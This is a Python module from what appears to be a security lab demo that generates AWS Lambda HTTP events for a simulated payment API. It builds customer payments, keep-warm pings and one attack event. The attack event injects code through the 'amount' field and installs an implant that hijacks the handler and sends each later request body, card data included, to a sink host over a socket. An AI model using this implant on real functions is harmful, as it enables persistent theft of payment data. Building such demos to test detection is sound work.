"""The three kinds of request the demo sends: a customer paying, a keep-warm ping, the attack."""

from __future__ import annotations

import json
import os
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING

from dayfly.lab.demo.cards import make_cards

if TYPE_CHECKING:
    from random import Random

# Addresses for documentation (RFC 5737): nobody's.
ATTACKER = "203.0.113.66"
MONITOR = "192.0.2.53"
_DOMAIN = "shop4711.execute-api.us-east-1.amazonaws.com"
_BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
_NAMES = ("Ada", "Bram", "Chidi", "Dalia", "Emre", "Freya", "Goran", "Hana", "Ines", "Jonas", "Kaya", "Lucia")


@dataclass(frozen=True, slots=True)
class Customer:
    """Somebody who pays; `card` is unique within a demo, `address` may be shared with others."""

    name: str
    card: str
    amount: str
    address: str = "192.0.2.1"


# What the attacker types into the amount field, once per request. It defines `_plant` and calls it. From
# then on `handler` is the attacker's function, which passes every event on and to the old one. Swapping
# `__code__` matters: awslambdaric looks the handler up once, so a new `app.handler` would never be called.
# One connection without waiting for an answer: a customer would notice more.
_IMPLANT = """
import json, os, socket, types

def _plant(context):
    if "_old_handler" in globals():
        return
    globals()["_implant"] = {"implant": os.urandom(8).hex(), "planted_by": context.aws_request_id}
    globals()["_old_handler"] = types.FunctionType(handler.__code__, globals())
    handler.__code__ = _spy.__code__
    _send(None, context)

def _spy(event, context):
    _send(event.get("body"), context)
    return _old_handler(event, context)

def _send(body, context):
    seen = {**_implant, "request": context.aws_request_id, "environment": context.log_stream_name,
            "process": os.getpid(), "body": body}
    try:
        with socket.create_connection(("HOST", PORT), 2) as sink:
            sink.sendall(json.dumps(seen).encode())
    except OSError:
        pass
"""


def implant_source(*, sink_host: str, sink_port: int) -> str:
    """Return the Python the attack runs in the function, as it may be shown to a reader."""
    return _IMPLANT.strip().replace("HOST", sink_host).replace("PORT", str(sink_port))


def make_customers(count: int, *, random: Random, has_sums: bool = True) -> tuple[Customer, ...]:
    """Return `count` customers with different cards, and amounts as the form takes them: sums, or plain numbers.

    To the guard a sum is code that came with the event, which it is.
    """
    return tuple(
        Customer(
            name=f"{random.choice(_NAMES)} {number}",
            card=card,
            amount=_amount(random, is_sum=has_sums),
            # RFC 2544's addresses for benchmarks: nobody's, and enough of them. Some customers sit behind one address.
            address=f"198.18.{random.randrange(64)}.{random.randrange(1, 255)}",
        )
        for number, card in enumerate(make_cards(count, random=random), start=1)
    )


def _amount(random: Random, *, is_sum: bool) -> str:
    number = f"{random.randrange(500, 20_000) / 100:.2f}"
    return f"{number} + {random.choice(('0.00', '2.90', '4.99'))}" if is_sum else number


def payment_event(customer: Customer) -> bytes:
    """Return the HTTP API event of a customer's payment."""
    body = {"customer": customer.name, "card": customer.card, "amount": customer.amount}
    return _http_event("POST", "/payments", body, address=customer.address, agent=_BROWSER)


def attack_event(*, sink_host: str, sink_port: int, address: str = ATTACKER) -> bytes:
    """Return the event of the attack: a payment whose amount is code that also yields a number."""
    source = implant_source(sink_host=sink_host, sink_port=sink_port)
    amount = f"(exec({source!r}, globals()), _plant(context), 1.0)[-1]"
    body = {"customer": "nobody", "card": "0000", "amount": amount}
    return _http_event("POST", "/payments", body, address=address, agent="python-requests/2.32.3")


def ping_event() -> bytes:
    """Return the event of a keep-warm ping: a health check, like any monitor's."""
    return _http_event("GET", "/health", None, address=MONITOR, agent="monitor/1.0")


def _http_event(method: str, path: str, body: dict[str, str] | None, *, address: str, agent: str) -> bytes:
    # Payload format 2.0: https://docs.aws.amazon.com/apigateway/latest/developerguide/http-api-develop-integrations-lambda.html
    now = time.time()
    headers = {
        "accept": "application/json",
        "content-length": str(len(json.dumps(body)) if body is not None else 0),
        "content-type": "application/json",
        "host": _DOMAIN,
        "user-agent": agent,
        "x-amzn-trace-id": f"Root=1-{int(now):08x}-{os.urandom(12).hex()}",
        "x-forwarded-for": address,
        "x-forwarded-port": "443",
        "x-forwarded-proto": "https",
    }
    event = {
        "version": "2.0",
        "routeKey": f"{method} {path}",
        "rawPath": path,
        "rawQueryString": "",
        "headers": headers,
        "requestContext": {
            "accountId": "000000000000",
            "apiId": _DOMAIN.partition(".")[0],
            "domainName": _DOMAIN,
            "domainPrefix": _DOMAIN.partition(".")[0],
            "http": {
                "method": method,
                "path": path,
                "protocol": "HTTP/1.1",
                "sourceIp": address,
                "userAgent": agent,
            },
            "requestId": os.urandom(8).hex(),
            "routeKey": f"{method} {path}",
            "stage": "$default",
            "time": time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(now)),
            "timeEpoch": int(now * 1000),
        },
        "isBase64Encoded": False,
    }
    if body is not None:
        event["body"] = json.dumps(body)
    return json.dumps(event).encode()
